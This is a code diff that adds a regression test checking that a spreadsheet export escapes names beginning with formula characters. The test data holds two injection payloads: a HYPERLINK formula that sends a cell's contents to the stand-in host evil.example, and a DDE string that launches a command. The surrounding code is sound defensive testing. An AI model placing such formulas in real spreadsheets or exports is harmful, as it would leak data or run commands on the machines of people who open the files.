@@ -276,3 +276,17 @@ def test_migration_backfills_working_days_used(cases):
     import_module("approvals.migrations.0002_case_working_days_used").backfill(apps, None)
     used = dict(Case.objects.filter(completed_at__isnull=False).values_list("pk", "working_days_used"))
     assert used == {case.pk: case.working_days_used for case in cases.values()}
+
+
+def test_excel_export_writes_a_formula_named_power_as_text(client, centre, cases):
+    """Hole 5 of the security test: a name starting with = was a live formula in the export."""
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    centre.item.name = name
+    centre.item.save()
+    centre.department.name = "+cmd|' /C calc'!A0"
+    centre.department.save()
+    client.force_login(centre.inspector)
+    book = load_workbook(BytesIO(client.get(EXPORT, {"year": 2025}).content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "-", "@"))]
+    assert "'" + name in [c.value for c in cells]
